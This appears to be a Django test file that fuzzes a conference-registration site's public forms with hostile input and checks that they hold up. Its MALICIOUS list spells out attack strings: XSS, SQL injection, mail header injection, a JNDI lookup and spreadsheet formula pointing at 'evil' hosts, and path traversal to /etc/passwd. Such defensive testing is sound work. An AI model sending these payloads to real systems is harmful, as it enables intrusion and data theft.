"""Hostile input against every public form and the personal-link pages (hypothesis).

Each example fills a form's fields (read from the rendered page, so new fields
are covered too) with valid values, garbage, markup, SQL-looking text, control
characters, CR/LF header injections, emoji, very long strings, lists instead of
strings, or leaves them out. Whatever comes in:
- no 500 (exceptions propagate: the test client re-raises them),
- a refused form stores nothing (database snapshot unchanged),
- whatever a form did accept passes the model's own field validation and has
  no control characters in one-line fields,
- no mail header carries CR/LF,
- markup comes back escaped.
"""

import datetime as dt
import os
import re

import pytest
from django.core import mail
from django.core.cache import cache
from django.db.models import CharField, EmailField, TextField
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.forms.validators import has_control_characters
from registrations.models import (
    GroupMembership,
    Invoice,
    OutgoingMail,
    Payment,
    Registration,
    WorkshopBooking,
)
from tests.factories import ConferenceFactory, RegistrationFactory, WorkshopFactory, WorkshopPhaseFactory
from tests.guards import url_or_fail

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script>'
IMG = "<img src=x onerror=alert(1)>"
MALICIOUS = [
    SCRIPT,
    IMG,
    f"Anna{SCRIPT}",
    "'; DROP TABLE registrations_registration; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM auth_user;--",
    "Anna\r\nBcc: evil@example.org",
    "evil@example.org\r\nBcc: victim@example.org",
    "anna@example.org\nSubject: pwned",
    "Anna\x00Null",
    "\x1b[31mrot",
    "\u202eevil",
    "😀👩‍👩‍👧‍👦 Zoë",
    "{{ request.META }}",
    "{% debug %}",
    "${jndi:ldap://evil}",
    '=HYPERLINK("http://evil")',
    "../../etc/passwd",
    "javascript:alert(1)",
    "%0d%0aBcc:%20x@y.z",
    "-1",
    "0",
    "99999999999999999999999",
    "NaN",
    "on",
    "true",
    "",
    " ",
    "null",
    "[]",
]
VALID = {
    "salutation": "frau",
    "academic_title": "Dr.",
    "first_name": "Anna",
    "last_name": "Beispiel",
    "email": "anna.beispiel@example.org",
    "organisation": "Stadt Köln",
    "position": "Sozialplanung",
    "is_member": "on",
    "member_number": "4711",
    "note": "Bis bald",
    "privacy_consent": "on",
    "terms_accepted": "on",
    "confirm": "on",
    "website": "",
    "billing_recipient": "person",
    "billing_street": "Am Markt 1",
    "billing_postcode": "50667",
    "billing_city": "Köln",
}
NOT_OUR_FIELDS = {"csrfmiddlewaretoken", "language", "next"}

hostile_text = st.one_of(
    st.sampled_from([SCRIPT, IMG, f"Stadt {SCRIPT}", f"Köln {IMG}"]),
    st.sampled_from(MALICIOUS),
    st.text(max_size=120),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=40),
    st.integers(min_value=300, max_value=12000).map(lambda n: "Ä" * n),
    st.tuples(st.sampled_from(["Anna", "a@b.de", ""]), st.sampled_from(["\r\n", "\n", "\r", "\x0b"])).map(
        lambda t: f"{t[0]}{t[1]}Bcc: evil@example.org"
    ),
)
hostile_value = st.one_of(hostile_text, st.lists(hostile_text, min_size=2, max_size=3))


def form_fields(client, url):
    """The fields of the page's form with a valid value for each (what the page offers), or None."""
    response = client.get(url, follow=True)
    assert response.status_code == 200, url
    html = response.content.decode()
    fields = {}
    for tag in re.findall(r"<input\b[^>]*>", html):
        name = re.search(r'name="([^"]+)"', tag)
        if not name or name.group(1) in NOT_OUR_FIELDS:
            continue
        kind = (re.search(r'type="([^"]+)"', tag) or re.search("()", "")).group(1)
        value = (re.search(r'value="([^"]*)"', tag) or re.search("()", "")).group(1)
        if kind in {"radio", "checkbox"}:
            if "disabled" in tag:
                continue
            fields.setdefault(name.group(1), value or "on")
        else:
            fields.setdefault(name.group(1), value)
    for name, body in re.findall(r'<select\b[^>]*name="([^"]+)"[^>]*>(.*?)</select>', html, re.S):
        if name in NOT_OUR_FIELDS:
            continue
        options = [v for v in re.findall(r'<option[^>]*value="([^"]*)"', body) if v]
        fields.setdefault(name, options[0] if options else "")
    for name, body in re.findall(r'<textarea\b[^>]*name="([^"]+)"[^>]*>(.*?)</textarea>', html, re.S):
        fields.setdefault(name, body.strip())
    for name, value in VALID.items():
        if name in fields and not (name == "email" and fields[name]):
            fields[name] = value
    return fields


def hostile_form_data(fields):
    """Mostly valid data with a few fields made hostile or left out: hostile values then reach the
    services, not just the first validation error."""
    names = sorted(fields)
    return st.tuples(
        st.sets(st.sampled_from(names), max_size=3),
        st.sets(st.sampled_from(names), max_size=2),
        st.fixed_dictionaries({name: hostile_value for name in names}),
    ).map(
        lambda t: {
            name: (t[2][name] if name in t[0] else fields[name])
            for name in names
            if name not in t[1] or name in t[0]
        }
    )


def snapshot():
    return (
        list(Registration.objects.order_by("pk").values()),
        OutgoingMail.objects.count(),
        WorkshopBooking.objects.count(),
        GroupMembership.objects.count(),
        Invoice.objects.count(),
        Payment.objects.count(),
    )


SINGLE_LINE_EXEMPT = {"note", "substitution_note"}


def assert_stored_data_is_clean():
    for registration in Registration.objects.all():
        registration.clean_fields()
        for field in Registration._meta.concrete_fields:
            if isinstance(field, CharField | EmailField | TextField):
                value = getattr(registration, field.attname) or ""
                multiline = isinstance(field, TextField) or field.name in SINGLE_LINE_EXEMPT
                assert not has_control_characters(value, multiline=multiline), (field.name, value)


def assert_no_header_injection():
    for outgoing in OutgoingMail.objects.all():
        for value in (outgoing.to, outgoing.subject):
            assert "\r" not in value and "\n" not in value, value
    for message in mail.outbox:
        for value in [message.subject, message.from_email, *message.to, *message.cc, *message.bcc]:
            assert "\r" not in value and "\n" not in value, value
        assert message.bcc == []


def assert_escaped(response):
    if response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
        content = response.content.decode()
        assert SCRIPT not in content
        assert IMG not in content


@pytest.fixture
def world(db):
    """A published conference with a workshop phase; every example gets fresh registrations."""
    conference = ConferenceFactory(places=500, ends_at=timezone.now() + dt.timedelta(days=62))
    phase = WorkshopPhaseFactory(conference=conference, number=1)
    WorkshopFactory(phase=phase)
    WorkshopFactory(phase=phase)
    return {"conference": conference}


def fresh_registration(conference, **extra):
    number = Registration.objects.count() + 1
    return RegistrationFactory(
        conference=conference,
        first_name="Anna",
        last_name=f"Beispiel {'I' * (number % 5 + 1)}",
        email=f"person{number}-{timezone.now().timestamp()}@example.org",
        **extra,
    )


def fresh_binding_registration(conference):
    return fresh_registration(
        conference,
        stage="binding",
        fee_category="member",
        billing_recipient="person",
        billing_street="Am Markt 1",
        billing_postcode="50667",
        billing_city="Köln",
        registered_at=timezone.now(),
    )


FORMS = {
    "pre_register": ("slug", None),
    "binding_register": ("slug", None),
    "personal_edit": ("token", fresh_registration),
    "personal_cancel": ("token", fresh_registration),
    "personal_deletion_request": ("token", fresh_registration),
    "binding_personal": ("token", fresh_registration),
    "personal_substitute": ("token", fresh_binding_registration),
    "personal_workshops": ("token", fresh_binding_registration),
}


def form_url(world, name):
    """A new URL of a public form (token forms: of a new registration); a form that is no longer
    routed fails the test instead of leaving its hostile input untested."""
    kind, make = FORMS[name]
    conference = world["conference"]
    kwargs = {"slug": conference.slug} if kind == "slug" else {"token": make(conference).token}
    return url_or_fail(f"registrations:{name}", **kwargs)


def public_forms(world):
    return [(name, form_url(world, name)) for name in FORMS]


# Fast enough for every run (the file stays under a minute); raise it for a deeper search:
# HOSTILE_EXAMPLES=500 .venv/bin/python -m pytest tests/security/test_hostile_input.py
EXAMPLES_PER_FORM = int(os.environ.get("HOSTILE_EXAMPLES", "12"))

EXAMPLES = settings(
    max_examples=EXAMPLES_PER_FORM,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)


@pytest.mark.parametrize("form_name", list(FORMS))
def test_hostile_posts_never_break_a_public_form(world, form_name):
    url = form_url(world, form_name)
    client = Client()
    fields = form_fields(client, url)
    assert fields, f"no form fields found on {url}"

    @EXAMPLES
    @given(payload=hostile_form_data(fields))
    def post_hostile(payload):
        cache.clear()  # the per-address form limit would answer 429 to everything after 20 posts
        mail.outbox.clear()
        target = form_url(world, form_name)
        if "email" in payload and payload["email"] == fields["email"]:
            payload["email"] = f"neu{Registration.objects.count()}@example.org"
        before = snapshot()
        response = client.post(target, payload)
        assert response.status_code in {200, 302, 400, 403, 404, 409, 429}, response.status_code
        if response.status_code != 302:
            assert snapshot() == before, "a refused form stored something"
        assert_escaped(response)
        assert_stored_data_is_clean()
        assert_no_header_injection()
        if response.status_code == 302:
            assert_escaped(client.get(response["Location"], follow=True))

    post_hostile()


@settings(
    max_examples=2 * EXAMPLES_PER_FORM,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(token=st.one_of(st.text(max_size=100), st.sampled_from(MALICIOUS)))
def test_personal_pages_answer_404_to_any_wrong_token(client, world, token):
    for suffix in ("", "daten/", "stornieren/", "meine-daten.json", "loeschung/"):
        response = client.get(f"/anmeldung/{token}/{suffix}")
        assert response.status_code in {404, 301}, (token, suffix)


def test_posts_with_a_wrong_or_missing_csrf_token_are_refused_and_store_nothing(world):
    client = Client(enforce_csrf_checks=True)
    forms = public_forms(world)
    assert len(forms) >= 4
    before = snapshot()
    for _name, url in forms:
        client.get(url)  # sets the CSRF cookie
        assert client.post(url, VALID).status_code == 403, url
        assert client.post(url, {**VALID, "csrfmiddlewaretoken": "x" * 64}).status_code == 403, url
    assert snapshot() == before


def test_markup_stored_in_every_text_field_is_escaped_on_every_personal_page(client, world):
    """Data may come from the office or an import, not only through our forms: pages escape it all."""
    registration = fresh_binding_registration(world["conference"])
    for field in Registration._meta.concrete_fields:
        if isinstance(field, CharField | TextField) and not field.choices and field.name != "token":
            limit = field.max_length or 1000
            setattr(registration, field.name, f"X{SCRIPT}{IMG}"[:limit])
    registration.email = "markup@example.org"
    registration.save()
    pages = [registration.get_absolute_url()]
    for name in FORMS:
        if FORMS[name][0] == "token":
            pages.append(url_or_fail(f"registrations:{name}", token=registration.token))
    for page in pages:
        response = client.get(page, follow=True)
        assert response.status_code == 200, page
        content = response.content.decode()
        assert SCRIPT not in content, page
        assert IMG not in content, page
    assert len(pages) >= 5


def test_a_substitution_with_long_names_fits_the_audit_trail(world):
    """simple-history's change reason is a varchar(100); PostgreSQL refused longer notes (found by the
    property test above, which SQLite could not show: it does not enforce lengths)."""
    from registrations.domain.lifecycle import substitute

    registration = fresh_binding_registration(world["conference"])
    Registration.objects.filter(pk=registration.pk).update(
        first_name="Maximiliane-Josephine", last_name="Müller-Lüdenscheidt-Oberhausen", organisation="Ä" * 120
    )
    registration.refresh_from_db()
    substitute(
        registration=registration,
        data={
            "first_name": "Bernd",
            "last_name": "Neu",
            "email": "bernd.neu@example.org",
            "organisation": "X",
        },
    )
    reason = registration.history.first().history_change_reason
    assert reason.startswith(timezone.localtime().strftime("%d.%m.%Y"))
    assert len(reason) == 100
    registration.refresh_from_db()
    assert "Ä" * 120 in registration.substitution_note


def test_a_public_form_that_loses_its_route_fails_these_tests(client, world, monkeypatch):
    """They used to skip a form that was not routed, and so passed without testing it."""
    monkeypatch.setitem(FORMS, "gone", ("token", fresh_registration))
    with pytest.raises(AssertionError, match="'registrations:gone' is missing"):
        test_hostile_posts_never_break_a_public_form(world, "gone")
    with pytest.raises(AssertionError, match="'registrations:gone' is missing"):
        test_posts_with_a_wrong_or_missing_csrf_token_are_refused_and_store_nothing(world)
    with pytest.raises(AssertionError, match="'registrations:gone' is missing"):
        test_markup_stored_in_every_text_field_is_escaped_on_every_personal_page(client, world)


# ---------------------------------------------------------------- charsets, content types, bodies

CONTENT_TYPES = [
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=latin-1",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=utf-32",
    "application/x-www-form-urlencoded; charset=no-such-charset",
    "multipart/form-data",
    "multipart/form-data; boundary=xx",
    "multipart/form-data; boundary=xx; charset=utf-16",
    "multipart/form-data; boundary=",
    "text/plain; charset=utf-16",
    "application/json",
    "",
]


def _multipart(fields, boundary="xx"):
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value
        for name, value in fields
    ]
    return b"\r\n".join(parts) + f"\r\n--{boundary}--\r\n".encode()


def hostile_bodies():
    text = st.one_of(st.sampled_from(MALICIOUS), st.text(max_size=40))
    encoded = st.tuples(text, st.sampled_from(["utf-8", "latin-1", "utf-16", "utf-32"])).map(
        lambda pair: pair[0].encode(pair[1], "replace")
    )
    value = st.one_of(encoded, st.binary(max_size=60))
    names = st.sampled_from(
        ["email", "first_name", "last_name", "privacy_consent", "csrfmiddlewaretoken", "x"]
    )
    fields = st.lists(st.tuples(names, value), max_size=5)
    return st.one_of(
        st.binary(max_size=300),
        fields.map(lambda pairs: b"&".join(name.encode() + b"=" + raw for name, raw in pairs)),
        fields.map(_multipart),
    )


@pytest.mark.parametrize("enforce_csrf", [False, True], ids=["view", "csrf"])
@pytest.mark.parametrize("form_name", list(FORMS))
def test_hostile_bodies_and_content_types_never_break_a_public_form(world, form_name, enforce_csrf):
    client = Client(enforce_csrf_checks=enforce_csrf)

    @EXAMPLES
    @given(body=hostile_bodies(), content_type=st.sampled_from(CONTENT_TYPES))
    def post_hostile(body, content_type):
        cache.clear()
        url = form_url(world, form_name)
        client.get(url)  # the CSRF cookie: with it the CSRF check reads the body
        before = snapshot()
        response = client.generic("POST", url, data=body, content_type=content_type)
        assert response.status_code in {200, 302, 400, 403, 404, 409, 429}, response.status_code
        if response.status_code != 302:
            assert snapshot() == before, "a refused body stored something"

    post_hostile()
